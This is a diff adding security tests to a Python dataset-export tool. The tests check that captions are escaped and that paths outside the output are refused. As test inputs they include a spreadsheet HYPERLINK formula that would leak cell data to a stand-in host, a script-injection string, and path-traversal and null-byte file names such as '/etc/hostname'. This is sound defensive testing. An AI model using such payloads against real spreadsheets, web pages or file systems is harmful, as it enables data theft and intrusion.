@@ -15,6 +15,7 @@ from hypothesis import strategies as st
 from curation import export as exporting
 from curation.errors import UserError
 from curation.export import export
+from curation.outside_text import from_safe_cell
 from curation.schema import blank_row, table_schema
 
 SCHEMA = table_schema([])
@@ -239,8 +240,55 @@ def test_every_caption_survives_every_format(captions):
         internal = json.loads(export(out, "internal").paths[0].read_bytes())
         assert [r["text"] for r in internal] == captions
         with open(export(out, "webvid").paths[0], newline="", encoding="utf-8") as file:
-            assert [r["name"] for r in csv.DictReader(file)] == captions
+            cells = [r["name"] for r in csv.DictReader(file)]
+        assert [from_safe_cell(cell) for cell in cells] == captions
+        assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r")]
         with open(export(out, "diffusers").paths[0], newline="\n", encoding="utf-8") as file:
             assert [json.loads(line)["text"] for line in file] == captions
         content = members(export(out, "webdataset").paths[0])
         assert [b.decode() for n, b in content.items() if n.endswith(".txt")] == captions
+
+
+def test_a_formula_in_a_caption_does_not_run_in_a_spreadsheet(tmp_path):
+    captions = ['=HYPERLINK("http://x?"&A1,"a dog")', "'=1+1", "-1 degree", "a dog = a friend", "'tis a dog"]
+    write_table(tmp_path, [row(i, caption=caption) for i, caption in enumerate(captions)])
+    with open(export(tmp_path, "webvid").paths[0], newline="", encoding="utf-8") as file:
+        cells = [r["name"] for r in csv.DictReader(file)]
+    assert cells == [f"'{captions[0]}", f"'{captions[1]}", f"'{captions[2]}", captions[3], captions[4]]
+
+
+PAGES = ["</script><script>alert(1)</script>", "<!--", "a\u2028b\u2029c", "a\x85b", "\x9b2Jx\x7f", "</", "a < b"]
+
+
+@pytest.mark.parametrize("format", ["internal", "diffusers", "webdataset"])
+def test_json_is_harmless_in_a_page_and_on_a_terminal_and_one_line_stays_one(tmp_path, format):
+    write_table(tmp_path, [row(i, caption=caption) for i, caption in enumerate(PAGES)], media=True)
+    (path,) = export(tmp_path, format).paths
+    if format == "webdataset":
+        lines = [content.decode() for name, content in members(path).items() if name.endswith(".json")]
+    else:
+        lines = [line.rstrip(",") for line in path.read_text(encoding="utf-8").split("\n") if line.startswith("{")]
+    assert [json.loads(line)["text"] for line in lines] == PAGES
+    assert all("<" not in line and line.isprintable() and line.splitlines() == [line] for line in lines)
+
+
+@pytest.mark.parametrize("clip_path", ["/etc/hostname", "train/../../secret.mp4", "../secret.mp4", "train/\0.mp4"])
+@pytest.mark.parametrize("format", ["internal", "webvid", "diffusers", "webdataset"])
+def test_a_table_that_names_files_outside_the_output_is_refused(tmp_path, format, clip_path):
+    """It need not be ours: whoever is handed an output may export it."""
+    out = write_table(tmp_path / "out", [row(0, clip_path="train/a.mp4"), row(1, clip_path=None)], media=True)
+    (tmp_path / "secret.mp4").write_bytes(b"secret")
+    write_table(out, [row(0, clip_path=clip_path)])
+    with pytest.raises(
+        UserError, match="its table names a file outside it: '.*'; was it written by this program"
+    ) as error:
+        export(out, format)
+    assert str(error.value).isprintable()
+
+
+@pytest.mark.parametrize("clip_id", ["../../x", "/x", "a/b", "..", "", "a.b", "a\nb", "x" * 300])
+def test_the_members_of_a_shard_stay_in_the_folder_where_it_is_unpacked(tmp_path, clip_id):
+    write_table(tmp_path, [row(0, clip_id=clip_id, clip_path="train/a.mp4")], media=True)
+    with pytest.raises(UserError, match="cannot name a file of a shard") as error:
+        export(tmp_path, "webdataset")
+    assert str(error.value).isprintable() and not (tmp_path / "webdataset").exists()
